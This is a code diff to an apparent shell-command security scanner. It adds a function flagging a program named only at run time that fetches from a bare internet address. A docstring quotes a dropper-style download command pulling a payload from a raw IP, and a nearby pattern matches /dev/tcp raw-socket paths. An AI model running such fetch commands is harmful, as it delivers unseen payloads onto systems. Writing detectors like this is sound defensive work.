@@ -628,6 +628,19 @@ def _from_raw_address(invocation: Invocation, file: str) -> Verdict | None:
     return None
 
 
+def _run_time_fetch(invocation: Invocation) -> Verdict | None:
+    """``$WGET $DIR/r1x http://37.44.212.223/rig``: a program named only at run time (a dropper keeps its
+    renamed ``wget`` in a variable) given a URL on a bare internet address, as :func:`_from_raw_address`
+    judges a known downloader's: what arrives from there is a payload unseen."""
+    command = invocation.command
+    for word in invocation.args:
+        match = _RAW_ADDRESS_FETCH.match(command.render(word))
+        if match is not None and _on_the_internet(match["host"]):
+            why = f"a program named at run time fetches from {match['host']}, a bare internet address"
+            return _verdict(UNJUDGED_SCRIPT, invocation, why)
+    return None
+
+
 _RAW_SOCKET = lazy_compile(r"^/dev/(?:tcp|udp)/([^/]+)/\d+$")
 _LOCAL_HOST = lazy_compile(r"^(?:localhost|127\.\d+\.\d+\.\d+|::1)$")
 
@@ -1766,6 +1779,9 @@ def judge(invocation: Invocation, home: str) -> Verdict | None:
     """The first finding of this family in ``invocation``, or None."""
     if not invocation.name:
         return None
+    fetched = _run_time_fetch(invocation) if invocation.name.startswith("$") else None
+    if fetched is not None:
+        return fetched
     download = _download(invocation)
     if download is not None:
         for file in download.files:
